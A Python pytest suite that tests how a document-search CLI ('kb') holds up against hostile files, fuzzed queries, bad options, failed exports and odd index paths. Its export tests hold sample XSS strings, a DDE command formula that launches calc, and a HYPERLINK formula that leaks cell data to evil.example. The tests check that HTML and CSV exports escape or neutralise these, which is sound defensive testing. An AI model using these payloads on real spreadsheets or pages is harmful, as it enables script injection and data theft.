"""Never crash on input: hostile files, malformed queries, bad options, exports that
other people open, and odd corpus and index paths (issue 6, SPEC §1, §4, §5, §6)."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kb import store as kbstore
from kb.api import KnowledgeBase
from kb.cli import cli
from kb.corpus import decode
from kb.errors import KbError, QueryError



def invoke(*args: str):
    return CliRunner().invoke(cli, list(args))


def loc(corpus: Path, index: Path | None = None) -> list[str]:
    return ["--corpus", str(corpus), "--index", str(index or corpus.parent / "index")]


def one_line_error(r) -> None:  # type: ignore[no-untyped-def]
    assert r.exit_code == 2, (r.exit_code, r.output)
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    err = r.stderr.strip()
    assert err.startswith("Error: ") and len(err.splitlines()) == 1, err
    assert "Traceback" not in r.output


# --------------------------------------------------------------------------- files

HOSTILE: dict[str, bytes] = {
    "empty.md": b"",
    "binary.txt": bytes(range(256)) * 40,
    "invalid-utf8.md": "# Damaged\n\nThe Task Force’s work on harassment – prevention "
                       "“matters”.\n".encode()[:30] + b"\xff\xfe" + "# Damaged\n\nThe Task "
                       "Force’s work on harassment – prevention “matters”.\n".encode()[30:],
    "latin1.txt": "Café résumé\n\nLa prévention du harcèlement est l'affaire de tous, "
                  "déclare le comité à Genève.\n".encode("latin-1"),
    "cp1252.txt": "Smart quotes\n\n“Harassment prevention” is the Task Force’s priority – "
                  "says the report… with more text.\n".encode("cp1252"),
    "utf16.md": "# UTF-16 report\n\nHarassment prevention written in UTF-16 with a BOM.\n"
                .encode("utf-16"),
    "crlf.md": b"# CRLF report\r\n\r\nFirst paragraph about harassment.\r\n\r\n## Second\r\n"
               b"\r\nSecond paragraph about crlfword prevention.\r\n",
    "lonecr.md": b"# Lone CR report\r\rFirst paragraph about harassment.\r\r## Second\r\r"
                 b"Second paragraph about lonecrword prevention.\r",
    "no-blank-line.txt": "\n".join(f"Line {i} of a long file with no blank line mentions "
                                   f"harassment number{i}." for i in range(10_000)).encode(),
    "nested.md": "".join(f"{'#' * (d % 6 + 1)} Heading {d}\n\nText at depth {d} about "
                         f"nestword{d}.\n\n" for d in range(60)).encode(),
    "file with spaces and ünïcödé – report.md": "# Ünïcödé name\n\nSpacenameword "
                                                "harassment prevention.\n".encode(),
    "sub/deeper/report.md": b"# Deep\n\nDeepword harassment.\n",
}


@pytest.fixture()
def hostile(tmp_path: Path) -> Path:
    corpus = tmp_path / "corpus"
    for name, data in HOSTILE.items():
        path = corpus / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    os.symlink("loop.md", corpus / "loop.md")  # a link to itself
    os.symlink("gone.md", corpus / "dangling.md")  # a link to nothing
    os.symlink("b.md", corpus / "a.md")  # two links to each other
    os.symlink("a.md", corpus / "b.md")
    os.symlink("..", corpus / "sub" / "up")  # a folder loop
    os.symlink("/etc", corpus / "outside")  # leaves the corpus
    os.mkfifo(corpus / "x.md")  # a named pipe: must not hang the walk
    return corpus


def _status(corpus: Path) -> dict:  # type: ignore[type-arg]
    r = invoke("status", "--format", "json", *loc(corpus))
    assert r.exit_code == 0, r.output
    return json.loads(r.stdout)


def test_hostile_files_are_indexed_or_reported_and_none_stops_the_run(hostile):
    t0 = time.perf_counter()
    r = invoke("index", *loc(hostile))
    assert r.exit_code == 0, r.output
    assert time.perf_counter() - t0 < 60
    st = _status(hostile)
    skipped = {s["id"]: s["reason"] for s in st["skipped"]}
    docs = {d["id"] for d in json.loads(invoke("docs", "--format", "json",
                                                *loc(hostile)).stdout)}
    # every file is either a document or reported with its reason
    for name in HOSTILE:
        assert (name in docs) != (name in skipped), name
    assert "binary" in skipped["binary.txt"]
    assert "not a regular file" in skipped["x.md"]
    for link in ("loop.md", "a.md", "b.md"):
        assert "symbolic links" in skipped[link]
    assert "outside the corpus" in skipped["outside"]
    assert "No such file" in skipped["dangling.md"]
    assert set(docs) == set(HOSTILE) - {"binary.txt"}
    # each odd file is findable by its own words
    kb = KnowledgeBase(hostile, hostile.parent / "index")
    for query, doc in [("crlfword", "crlf.md"), ("lonecrword", "lonecr.md"),
                       ("Task Force's priority", "cp1252.txt"), ("harcèlement", "latin1.txt"),
                       ("UTF-16", "utf16.md"), ("spacenameword", "file with spaces and "
                                                "ünïcödé – report.md"),
                       ("nestword59", "nested.md"), ("number9999", "no-blank-line.txt"),
                       ("Task Force's work", "invalid-utf8.md"), ("deepword", "sub/deeper/report.md")]:
        hits = kb.search(query).hits
        assert hits and hits[0].doc == doc, (query, [h.doc for h in hits[:3]])
    # damaged UTF-8 stays UTF-8: the good characters survive, the bad bytes are U+FFFD
    text = kb.search("Task Force's work").hits[0].text
    assert "’" in text and "“matters”" in text
    # nested headings keep their path
    h = kb.search("nestword5").hits[0]
    assert h.section == "Heading 5" and h.heading_path[-1] == "Heading 5"
    kb.close()


def test_citations_stay_honest_in_odd_files(hostile):
    invoke("index", *loc(hostile))
    kb = KnowledgeBase(hostile, hostile.parent / "index")
    checked = 0
    for p in kb.passages():
        lines = decode((hostile / p.doc).read_bytes())[0].split("\n")
        words = p.text.split()
        assert words[0] in lines[p.line_start - 1], (p.id, p.line_start)
        assert words[-1] in lines[p.line_end - 1], (p.id, p.line_end)
        checked += 1
    assert checked > 400
    # the editor's line numbers for CRLF and lone-CR files
    for doc in ("crlf.md", "lonecr.md"):
        p = [p for p in kb.passages() if p.doc == doc and "Second" in p.text][0]
        assert (p.line_start, p.line_end) == (7, 7), (doc, p.line_start)
    kb.close()


def test_unreadable_and_vanishing_files_are_reported(tmp_path, monkeypatch):
    """CI runs as root, which reads through chmod 000: the PermissionError is injected."""
    from kb import corpus as kbcorpus
    from kb import load as readers

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for name in ("ok.md", "secret.md", "vanishing.md"):
        (corpus / name).write_text(f"# {name}\n\nHarassment prevention in {name}.\n")
    real_open = kbcorpus.open_regular

    def open_regular(path):  # type: ignore[no-untyped-def]
        if path.endswith("secret.md"):
            raise PermissionError(errno.EACCES, "Permission denied", path)
        return real_open(path)

    real_walk = kbcorpus.walk

    def walk(root, *a, **kw):  # type: ignore[no-untyped-def]
        result = real_walk(root, *a, **kw)
        (corpus / "vanishing.md").unlink()  # deleted between the walk and the read
        return result

    monkeypatch.setattr(readers, "open_regular", open_regular)
    monkeypatch.setattr(kbcorpus, "walk", walk)
    r = invoke("index", *loc(corpus))
    assert r.exit_code == 0, r.output
    monkeypatch.undo()
    skipped = {s["id"]: s["reason"] for s in _status(corpus)["skipped"]}
    assert skipped == {"secret.md": "permission denied",
                       "vanishing.md": "file vanished while indexing"}
    assert "skipped 2 files (2 unreadable): see `kb status" in r.stderr


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads through chmod 000")
def test_chmod_000_file_is_reported(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "ok.md").write_text("# ok\n\nHarassment.\n")
    (corpus / "secret.md").write_text("# secret\n\nHarassment.\n")
    (corpus / "secret.md").chmod(0)
    try:
        r = invoke("index", *loc(corpus))
        assert r.exit_code == 0
        skipped = {s["id"]: s["reason"] for s in _status(corpus)["skipped"]}
        assert skipped == {"secret.md": "permission denied"}
    finally:
        (corpus / "secret.md").chmod(0o644)


def test_file_replaced_by_a_fifo_after_the_walk_does_not_hang(tmp_path, monkeypatch):
    from kb import corpus as kbcorpus

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "ok.md").write_text("# ok\n\nHarassment.\n")
    (corpus / "pipe.md").write_text("# pipe\n\nHarassment.\n")
    real_walk = kbcorpus.walk

    def walk(root, *a, **kw):  # type: ignore[no-untyped-def]
        result = real_walk(root, *a, **kw)
        (corpus / "pipe.md").unlink()
        os.mkfifo(corpus / "pipe.md")
        return result

    monkeypatch.setattr(kbcorpus, "walk", walk)
    r = invoke("index", *loc(corpus))
    assert r.exit_code == 0, r.output
    monkeypatch.undo()
    skipped = {s["id"]: s["reason"] for s in _status(corpus)["skipped"]}
    assert "not a regular file" in skipped["pipe.md"]


def _wrapped_paragraph(n_bytes: int) -> str:
    words = "policy staff report training harassment prevention victim support".split()
    out, size, i = [], 0, 0
    while size < n_bytes:
        line = " ".join(words[(i + k) % len(words)] for k in range(11)) + "."
        out.append(line.capitalize() if i % 3 == 0 else line)
        size += len(line) + 1
        i += 1
    return "\n".join(out) + "\n"


def test_huge_single_paragraph_splits_in_linear_time():
    """A 4 MB paragraph (both wrapped in lines and on one line) is split quickly and
    honestly.  Before the fix, splitting was quadratic: 2 MB took over 10 s.
    bench/big_file.py runs the 50 MB case through `kb index`."""
    from kb.parse import parse
    from kb.passages import MAX_WORDS, split_document

    wrapped = _wrapped_paragraph(4_000_000)
    for text in (wrapped, wrapped.replace("\n", " ")):
        t0 = time.perf_counter()
        passages = split_document(parse(text, "big.txt", "text"))
        elapsed = time.perf_counter() - t0
        assert elapsed < 20, elapsed
        assert len(passages) > 1000
        assert all(len(p.text.split()) <= MAX_WORDS for p in passages)
        lines = text.split("\n")
        for p in passages[::97]:
            assert p.text.split()[0] in lines[p.line_start - 1]
            assert p.text.split()[-1] in lines[p.line_end - 1]


# --------------------------------------------------------------------------- queries

SYNTAX = ['"', "'", "(", ")", "[", "]", "{", "}", "AND", "OR", "NOT", "ANDNOT", "ANDMAYBE",
          ":", "*", "?", "~", "~2", "^", "^2", "-", "+", "\\", "/", ">", "<", "=", "to", "TO",
          "title:", "section:", "doc:", "date:", "text:", "id:", "meta:", "nosuchfield:",
          "date:[", "date:>", "2022", "2022-13-45", "\x00", "\x1b[31m", "\n", "\t", "\u200b",
          "\ufeff", "’", "harassment", "bystander", "interven*", "harrasment~",
          "ST/SGB/2003/13", "A/HRC/50/12", "e.g.", "U.S.", "..", "***", "**a", "a*b*c", "#", "|"]

query_text = st.one_of(
    st.text(max_size=80),
    st.lists(st.sampled_from(SYNTAX), min_size=1, max_size=12).map(" ".join),
    st.lists(st.sampled_from(SYNTAX), min_size=1, max_size=12).map("".join),
    st.lists(st.one_of(st.sampled_from(SYNTAX), st.text(max_size=6)), min_size=1,
             max_size=10).map(" ".join),
    st.text(alphabet=st.characters(blacklist_categories=()), max_size=40),  # surrogates too
)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from .conftest import NESTED_MD, PLAIN_TXT, SAMPLE

    corpus = tmp_path_factory.mktemp("q") / "corpus"
    (corpus / "guides").mkdir(parents=True)
    (corpus / "guides" / "safe-workplaces.md").write_text(NESTED_MD, encoding="utf-8")
    (corpus / "peer-support.txt").write_text(PLAIN_TXT, encoding="utf-8")
    (corpus / SAMPLE.name).write_bytes(SAMPLE.read_bytes())
    KnowledgeBase(corpus, corpus.parent / "index").update()
    return corpus, corpus.parent / "index"


QUERIES_TRIED = {"api": 0, "cli": 0}
_KB: dict[Path, KnowledgeBase] = {}


def _shared_kb(built: tuple[Path, Path]) -> KnowledgeBase:
    corpus, index = built
    if index not in _KB:
        _KB[index] = KnowledgeBase(corpus, index)
    return _KB[index]


@settings(max_examples=400, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(q=query_text)
def test_any_query_through_the_api_is_results_or_a_query_error(built, q):
    QUERIES_TRIED["api"] += 1
    try:
        r = _shared_kb(built).search(q, limit=5)
    except QueryError:
        return
    assert r.total + r.partial >= len(r.hits)
    assert all(h.match == "full" for h in r.hits[:r.total])
    for h in r.hits:
        assert h.id and h.citation


@settings(max_examples=200, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(q=query_text, fmt=st.sampled_from(["text", "json", "csv"]))
def test_any_query_through_the_cli_exits_0_1_or_2_with_one_line(built, q, fmt):
    corpus, index = built
    QUERIES_TRIED["cli"] += 1
    r = CliRunner().invoke(cli, ["search", "--format", fmt, *loc(corpus, index), "--", q])
    assert r.exit_code in (0, 1, 2), (q, r.exit_code, r.output)
    assert r.exception is None or isinstance(r.exception, SystemExit), (q, r.exception)
    assert "Traceback" not in r.output and "unexpected" not in r.stderr, (q, r.stderr)
    if r.exit_code == 2:
        assert len(r.stderr.strip().splitlines()) == 1, (q, r.stderr)
    elif fmt == "json":
        assert json.loads(r.stdout)["total"] >= 0


@pytest.mark.parametrize("q", ["h\udcffrass~", "h\udcffrass", "\udcff", "har\udcff*",
                               '"sexual \udcffharassment"', "harassment~\udcff"])
def test_bytes_that_are_not_utf8_in_a_query_are_no_crash(built, q):
    """A command-line byte that is not UTF-8 reaches kb as a lone surrogate (PEP
    383); it once crashed the stemmer of a fuzzy word ("this is a bug in kb")."""
    corpus, index = built
    r = CliRunner().invoke(cli, ["search", *loc(corpus, index), "--", q])
    assert r.exit_code in (0, 1, 2) and "unexpected" not in r.stderr, (q, r.stderr)
    assert "\udcff" not in r.output
    try:
        _shared_kb(built).search(q)
    except QueryError:
        pass


@pytest.mark.parametrize("q", ["a" * 4_999, "a" * 4_998 + "~", "harassment " * 450,
                               "(" * 4_000, '"' * 4_999, "a* " * 1_600, "x" * 5_001,
                               "bystander " * 1_000])
def test_very_long_queries_are_quick(built, q):
    kb = _shared_kb(built)
    t0 = time.perf_counter()
    try:
        kb.search(q)
    except QueryError as e:
        assert len(q) > 5_000 or "nothing to search" in str(e)
    assert time.perf_counter() - t0 < 5


def test_query_counts_are_reported():
    print(f"\nHypothesis queries tried: {QUERIES_TRIED}")
    for kb in _KB.values():
        kb.close()
    _KB.clear()


# --------------------------------------------------------------------------- options


@pytest.mark.parametrize("args", [
    ["search", "harassment", "--limit", "-1"],
    ["search", "harassment", "--limit", "0"],
    ["search", "harassment", "--offset", "-3"],
    ["search", "harassment", "--since", "last week"],
    ["search", "harassment", "--until", "2022-02-30"],
    ["search", "harassment", "--format", "xml"],
    ["search", "harassment", "--bogus"],
    ["export", "harassment", "--limit", "-5", "-o", "-"],
    ["export", "harassment", "--since", "yesterday", "-o", "-"],
    ["show", "x#1", "--context", "-1"],
    ["search"],
    ["nosuchcommand"],
])
def test_bad_options_are_one_line_errors(built, args):
    corpus, index = built
    r = invoke(*args, *loc(corpus, index))
    one_line_error(r)
    assert r.stdout == ""


def test_export_into_a_missing_folder_writes_nothing(built, tmp_path):
    corpus, index = built
    target = tmp_path / "missing" / "annex.html"
    r = invoke("export", "harassment", "-o", str(target), *loc(corpus, index))
    one_line_error(r)
    assert "does not exist" in r.stderr
    assert not (tmp_path / "missing").exists()


def test_export_into_a_read_only_folder_writes_nothing(built, tmp_path, monkeypatch):
    """Root writes into a chmod 555 folder, so the refusal is injected as the OS gives it."""
    import tempfile

    corpus, index = built
    out = tmp_path / "readonly"
    out.mkdir()

    def mkstemp(*a, **kw):  # type: ignore[no-untyped-def]
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)
    r = invoke("export", "harassment", "-o", str(out / "annex.csv"), *loc(corpus, index))
    one_line_error(r)
    assert "Permission denied" in r.stderr
    assert os.listdir(out) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_export_into_a_chmod_555_folder_writes_nothing(built, tmp_path):
    corpus, index = built
    out = tmp_path / "readonly"
    out.mkdir()
    out.chmod(0o555)
    try:
        r = invoke("export", "harassment", "-o", str(out / "annex.csv"), *loc(corpus, index))
        one_line_error(r)
        assert os.listdir(out) == []
    finally:
        out.chmod(0o755)


def test_export_full_disk_leaves_no_partial_file(built, tmp_path, monkeypatch):
    from kb import export as ex

    corpus, index = built
    real = ex.WRITERS["csv"]

    def half_then_full(result, out):  # type: ignore[no-untyped-def]
        out.write("rank,score\n")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setitem(ex.WRITERS, "csv", half_then_full)
    r = invoke("export", "harassment", "-o", str(tmp_path / "hits.csv"), *loc(corpus, index))
    monkeypatch.setitem(ex.WRITERS, "csv", real)
    one_line_error(r)
    assert "No space left" in r.stderr
    assert os.listdir(tmp_path) == []


def test_export_never_overwrites_without_force(built, tmp_path):
    corpus, index = built
    target = tmp_path / "annex.md"
    target.write_text("mine")
    r = invoke("export", "harassment", "-o", str(target), *loc(corpus, index))
    one_line_error(r)
    assert target.read_text() == "mine"
    r = invoke("export", "harassment", "-o", str(tmp_path), *loc(corpus, index))
    one_line_error(r)
    assert invoke("export", "harassment", "-o", str(target), "--force",
                  *loc(corpus, index)).exit_code == 0
    assert target.read_text() != "mine" and sorted(os.listdir(tmp_path)) == ["annex.md"]


# --------------------------------------------------------------------------- exports

EVIL_MD = """\
# @SUM(A1:A9) report <script>alert('title')</script>

## +cmd|' /C calc'!A0 section

=HYPERLINK("http://evil.example/?x="&A1,"Click me") is what harassment trainers warned about.

The text holds \\<script>alert(1)\\</script> and \\</td> and `<script>alert(2)</script>` about
harassment, and <img src=x onerror=alert(3)> inline.

-2+3 harassment starts with a minus. @SUM(A1:A2) harassment here too.
"""


def test_exports_escape_html_and_neutralise_formulas(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "evil.md").write_text(EVIL_MD, encoding="utf-8")
    (corpus / "=cmd.md").write_text("# =1+1\n\n@SUM(1,2) harassment.\n", encoding="utf-8")
    invoke("index", *loc(corpus))
    with KnowledgeBase(corpus, tmp_path / "index") as kb:
        texts = " ".join(p.text for p in kb.passages())
    assert "<script>alert(1)</script>" in texts and "</td>" in texts  # the test means it
    html_out, csv_out = tmp_path / "annex.html", tmp_path / "hits.csv"
    assert invoke("export", "harassment", "-o", str(html_out), *loc(corpus)).exit_code == 0
    assert invoke("export", "harassment", "-o", str(csv_out), *loc(corpus)).exit_code == 0
    page = html_out.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;/td&gt;" in page
    lowered = page.lower()
    assert "<script" not in lowered and "<img" not in lowered and "onerror=alert" not in \
        lowered.replace("&lt;img src=x onerror=alert(3)&gt;", "")
    rows = list(csv.DictReader(io.StringIO(csv_out.read_text(encoding="utf-8"))))
    assert rows
    for row in rows:
        for field, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (field, value)
    cells = [v for row in rows for v in row.values()]
    assert any(v.startswith("'=HYPERLINK(") for v in cells)
    assert any(v.startswith("'@SUM(A1:A9)") for v in cells)
    assert any(v.startswith("'+cmd") for v in cells)
    assert any(v.startswith("'=cmd.md") or v.startswith("'=1+1") for v in cells)
    # search --format csv goes through the same neutraliser
    r = invoke("search", "hyperlink", "--format", "csv", *loc(corpus))
    assert "'=HYPERLINK(" in r.stdout


def test_csv_and_html_writers_on_synthetic_hits():
    from kb import export as ex
    from kb.models import Hit, SearchResult

    nasty = ["=HYPERLINK(\"http://x\")", "@SUM(A1)", "+1", "-1", "\tTAB", "\rCR",
             "<script>alert(1)</script>", "</td><td>", "&amp;", "\"quoted\""]
    hits = tuple(Hit(rank=i, score=1.0, id=f"d#{i}", doc="d", title=t, date=None, section=t,
                     heading_path=(t,), line_start=1, line_end=1, page=None, paragraph=None,
                     text=t, snippet=t, highlights=(), missing_terms=(t,), citation=t, path=t)
                 for i, t in enumerate(nasty, 1))
    result = SearchResult(query="<b>=q</b>", total=len(hits), hits=hits, elapsed=0.0)
    rows = list(csv.DictReader(io.StringIO(ex.render(result, "csv"))))
    for row, t in zip(rows, nasty):
        expect = "'" + t if t.startswith(("=", "+", "-", "@", "\t", "\r")) else t
        assert row["text"] == expect and row["title"] == expect
    page = ex.render(result, "html")
    assert "<script>" not in page and "</td><td>" not in page and "<b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&amp;amp;" in page


# --------------------------------------------------------------------------- paths


def test_corpus_that_is_a_file(tmp_path):
    f = tmp_path / "corpus.txt"
    f.write_text("not a folder")
    for args in (["index"], ["search", "x"], ["export", "x", "-o", "-"]):
        r = invoke(*args, "--corpus", str(f), "--index", str(tmp_path / "ix"))
        one_line_error(r)
        assert "is a file" in r.stderr or "does not exist" in r.stderr
    assert not (tmp_path / "ix").exists() or os.listdir(tmp_path / "ix") == []


@pytest.mark.parametrize("rebuild", [[], ["--rebuild"]])
def test_foreign_index_folder_is_never_touched(sample_corpus, tmp_path, rebuild):
    foreign = tmp_path / "thesis"
    (foreign / "chapters").mkdir(parents=True)
    (foreign / "chapters" / "one.docx").write_text("precious")
    (foreign / "g000001").mkdir()  # even one that looks like a generation folder
    (foreign / "g000001" / "notes.txt").write_text("mine")
    before = sorted(str(p) for p in foreign.rglob("*"))
    for args in (["index", *rebuild], ["search", "x"], ["status"]):
        r = invoke(*args, "--corpus", str(sample_corpus), "--index", str(foreign))
        one_line_error(r)
        assert "not a kb index" in r.stderr
    assert sorted(str(p) for p in foreign.rglob("*")) == before
    assert (foreign / "chapters" / "one.docx").read_text() == "precious"


def test_index_path_that_is_a_file(sample_corpus, tmp_path):
    f = tmp_path / "index"
    f.write_text("mine")
    r = invoke("index", "--corpus", str(sample_corpus), "--index", str(f))
    one_line_error(r)
    assert f.read_text() == "mine"


def test_leftovers_of_a_killed_first_build_are_kbs_own(sample_corpus, tmp_path):
    index = tmp_path / "index"
    (index / "g000001").mkdir(parents=True)
    (index / "kb.lock").write_text("12345")
    for name in ("_MAIN_0.toc", "MAIN_abc123.trm", "MAIN_WRITELOCK", "files-1.json"):
        (index / "g000001" / name).write_bytes(b"partial")
    r = invoke("index", "--corpus", str(sample_corpus), "--index", str(index))
    assert r.exit_code == 0, r.output
    assert invoke("search", "bystander", "--corpus", str(sample_corpus), "--index",
                  str(index)).exit_code == 0


def test_index_from_a_newer_schema_is_refused_and_untouched(sample_corpus, tmp_path):
    index = tmp_path / "index"
    assert invoke("index", *loc(sample_corpus, index)).exit_code == 0
    marker = json.loads((index / kbstore.MARKER).read_text())
    marker["schema"] = kbstore.SCHEMA_VERSION + 1
    (index / kbstore.MARKER).write_text(json.dumps(marker))
    files = {p: p.read_bytes() for p in index.rglob("*") if p.is_file() and p.name != "kb.lock"}
    for args in (["index"], ["search", "bystander"], ["status"], ["docs"]):
        r = invoke(*args, *loc(sample_corpus, index))
        one_line_error(r)
        assert "newer kb" in r.stderr
    assert {p: p.read_bytes() for p in index.rglob("*")
            if p.is_file() and p.name != "kb.lock"} == files


def test_corrupt_marker_is_a_one_line_error(sample_corpus, tmp_path):
    index = tmp_path / "index"
    assert invoke("index", *loc(sample_corpus, index)).exit_code == 0
    (index / kbstore.MARKER).write_text("{not json")
    r = invoke("search", "bystander", *loc(sample_corpus, index))
    one_line_error(r)
    assert "kb index --rebuild" in r.stderr
    # and the advice works
    assert invoke("index", "--rebuild", *loc(sample_corpus, index)).exit_code == 0
    assert invoke("search", "bystander", *loc(sample_corpus, index)).exit_code == 0


def test_api_errors_are_kb_errors(tmp_path):
    kb = KnowledgeBase(tmp_path / "nope", tmp_path / "ix")
    with pytest.raises(KbError):
        kb.update()
    with pytest.raises(KbError):
        kb.search("x")
